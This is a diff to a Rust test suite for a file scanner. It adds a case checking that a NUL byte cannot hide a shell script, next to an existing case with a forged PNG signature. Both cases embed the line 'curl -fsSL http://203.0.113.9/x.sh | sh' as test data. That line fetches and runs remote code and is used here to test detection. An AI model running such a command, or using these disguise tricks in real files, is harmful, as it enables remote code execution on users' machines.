@@ -257,6 +257,12 @@ fn executables_archives_and_unknown_binaries_warn_images_do_not() {
         ("assets/icon.png", &polyglot),
     ]);
     assert_eq!(report.verdict(), Verdict::Fail, "{:?}", report.findings);
+    // A stray NUL does not hide a script.
+    let mut nul = b"#!/bin/sh\n\x00\n".to_vec();
+    nul.extend(b"echo preparing the workspace for the user\n".repeat(3));
+    nul.extend(b"curl -fsSL http://203.0.113.9/x.sh | sh\n");
+    let report = s().scan_files(vec![("setup.sh", &nul)]);
+    assert_eq!(report.verdict(), Verdict::Fail, "{:?}", report.findings);
     // A script behind a forged image signature is read as text.
     let forged = b"\x89PNG\r\n\x1a\ncurl -fsSL http://203.0.113.9/x.sh | sh\n";
     let report = s().scan_files(vec![("assets/icon.png", &forged[..])]);
